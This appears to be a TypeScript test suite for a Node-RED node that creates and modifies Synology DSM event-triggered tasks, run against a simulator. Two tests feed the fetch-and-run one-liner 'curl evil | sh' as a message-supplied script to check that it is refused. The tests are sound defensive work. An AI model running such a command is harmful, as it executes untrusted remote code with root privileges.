import { afterEach, beforeEach, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { Simulator } from '../../lib/sim';
import { dsmConfigNode, errorCode, getNode, loadFlow, sinks, startNodeRed, stopNodeRed, testFlow, waitFor, type Sinks } from '../helpers/node-red';
import { TEST_USER, startTestSimulator } from '../helpers/sim';

const NODE_FIELDS = {
  mode: 'upsert', owner: 'root', event: 'bootup', script: '/volume1/scripts/mount.sh', dependsOn: [], enabled: true,
  notifyEmail: '', notifyOnlyOnError: false, allowScriptFromMsg: false,
};

describe('synology-event-create', () => {
  let sim: Simulator;

  beforeEach(async () => {
    sim = await startTestSimulator({ seedTasks: [{ name: 'existing', script: 'echo old', owner: 'root' }, { name: 'base', script: 'true', owner: 'root' }] });
    await startNodeRed();
  });
  afterEach(async () => {
    await stopNodeRed();
    await sim.close();
  });

  async function load(props: Record<string, unknown>): Promise<Sinks> {
    const { flow, credentials } = testFlow(dsmConfigNode(sim, TEST_USER), [
      { id: 'cr', type: 'synology-event-create', name: '', server: 'dsm1', task: 'mount disk', taskType: 'str', wires: [['out']], ...NODE_FIELDS, ...props },
    ]);
    await loadFlow(flow, credentials);
    return sinks();
  }

  async function send(s: Sinks, msg: Record<string, unknown>): Promise<void> {
    const before = s.count();
    getNode('cr').receive(msg);
    await waitFor(() => s.count() === before + 1, 'the answer');
  }

  it('creates a task from the node fields and sends it as DSM holds it', async () => {
    const s = await load({ mode: 'create', dependsOn: ['base'], notifyEmail: 'ops@example.com', notifyOnlyOnError: true, event: 'shutdown' });
    await send(s, {});
    assert.equal(s.caught.length, 0, JSON.stringify(s.caught[0]?.error));
    assert.deepEqual(s.out[0].payload, {
      name: 'mount disk', event: 'shutdown', enabled: true, owner: 'root', script: '/volume1/scripts/mount.sh',
      dependsOn: ['base'], notifyEmail: 'ops@example.com', notifyOnlyOnError: true,
    });
    assert.equal(sim.state.tasks.get('mount disk')?.operation, '/volume1/scripts/mount.sh');
  });

  it('fails with TASK_EXISTS when creating a name that exists', async () => {
    const s = await load({ mode: 'create', task: 'existing' });
    await send(s, {});
    assert.equal(errorCode(s.caught[0]), 'TASK_EXISTS');
  });

  it('modifies with settings from msg.payload (task name included)', async () => {
    const s = await load({ mode: 'modify', task: '' });
    await send(s, { payload: { task: 'existing', event: 'shutdown', enabled: false, dependsOn: ['base'] } });
    const task = s.out[0].payload as { name: string; event: string; enabled: boolean; script: string; dependsOn: string[] };
    assert.equal(s.out[0].task, 'existing');
    assert.equal(task.event, 'shutdown');
    assert.equal(task.enabled, false);
    assert.deepEqual(task.dependsOn, ['base']);
    assert.equal(task.script, '/volume1/scripts/mount.sh', 'the script is the node\'s');
  });

  it('refuses a script from the message unless allowScriptFromMsg is on', async () => {
    const s = await load({});
    await send(s, { payload: { script: 'curl evil | sh' } });
    assert.equal(errorCode(s.caught[0]), 'INVALID_INPUT');
    assert.match(String((s.caught[0].error as { message: string }).message), /allowScriptFromMsg/);
    assert.equal(sim.state.tasks.has('mount disk'), false);
    assert.equal(sim.log.filter({ api: 'SYNO.Core.EventScheduler.Root' }).length, 0);
  });

  it('refuses a script from the message for an existing task too (modify), leaving its script alone', async () => {
    const before = sim.state.tasks.get('existing')?.operation;
    const s = await load({ mode: 'modify', task: '' });
    await send(s, { payload: { task: 'existing', script: 'curl evil | sh' } });
    assert.equal(errorCode(s.caught[0]), 'INVALID_INPUT');
    assert.equal(sim.state.tasks.get('existing')?.operation, before);
    assert.equal(sim.log.filter({ api: 'SYNO.Core.EventScheduler', method: 'set' }).length, 0);
    assert.equal(sim.log.filter({ api: 'SYNO.Core.EventScheduler.Root', method: 'set' }).length, 0);
  });

  it('takes a script from the message when allowScriptFromMsg is on', async () => {
    const s = await load({ allowScriptFromMsg: true });
    await send(s, { payload: { script: 'echo from msg' } });
    assert.equal((s.out[0].payload as { script: string }).script, 'echo from msg');
    assert.equal(sim.state.tasks.get('mount disk')?.operation, 'echo from msg', 'the NAS holds the script from the message');
  });

  it('validates event, e-mail and dependsOn before sending anything', async () => {
    const s = await load({});
    await send(s, { payload: { event: 'reboot' } });
    await send(s, { payload: { notifyEmail: 'not-an-address' } });
    await send(s, { payload: { dependsOn: ['a]b'] } });
    await send(s, { payload: { dependsOn: 'base' } });
    await send(s, { payload: { enabled: 'yes' } });
    assert.deepEqual(s.caught.map(errorCode), Array(5).fill('INVALID_INPUT'));
    assert.equal(sim.log.filter({ api: 'SYNO.Core.EventScheduler' }).length + sim.log.filter({ api: 'SYNO.Core.EventScheduler.Root' }).length, 0);
  });
});
